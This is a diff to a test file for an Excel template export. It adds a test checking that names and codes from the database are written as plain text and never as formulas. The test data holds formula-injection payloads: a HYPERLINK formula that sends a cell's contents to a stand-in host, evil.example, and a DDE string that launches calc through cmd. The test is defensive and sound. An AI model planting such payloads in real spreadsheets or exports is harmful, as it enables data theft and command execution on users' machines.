@@ -1,4 +1,5 @@
-import { eq } from 'drizzle-orm';
+import ExcelJS from 'exceljs';
+import { eq, inArray } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { endpoints } from '@shared';
 import * as s from '../../server/src/db/schema';
@@ -66,6 +67,29 @@ describe('Excel templates and uploads', () => {
     const users = (await readWorkbook((await download(endpoints.userTemplate)).body)).worksheets[0];
     expect(users.getCell('F2').dataValidation.type).toBe('list');
     expect(users.getCell('F2').dataValidation.showErrorMessage).toBeFalsy();
+  });
+
+  it('writes names and codes from the database into a template as text, never as formulas (a name like =HYPERLINK(...))', async () => {
+    const evil = ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', "+cmd|' /C calc'!A0", '-1+1', '@SUM(1)', '\t=1+1'];
+    const rows = await dbOf(t)
+      .insert(s.roomTypes)
+      .values(evil.map((nameEn, i) => ({ roomTypeCode: i === 0 ? '=1+1' : `EVIL${i}`, nameEn, nameAr: nameEn })))
+      .returning();
+    try {
+      const wb = await readWorkbook((await download(endpoints.roomTemplate)).body);
+      const texts: string[] = [];
+      for (const sheet of wb.worksheets)
+        sheet.eachRow((row) =>
+          row.eachCell((cell) => {
+            expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
+            expect(cell.formula, `${sheet.name}!${cell.address}`).toBeUndefined();
+            if (typeof cell.value === 'string') texts.push(cell.value);
+          }),
+        );
+      expect(texts).toEqual(expect.arrayContaining(['=1+1', ...evil]));
+    } finally {
+      await dbOf(t).delete(s.roomTypes).where(inArray(s.roomTypes.id, rows.map((r) => r.id)));
+    }
   });
 
   it('imports a filled room template in one go and says so in the caller language', async () => {
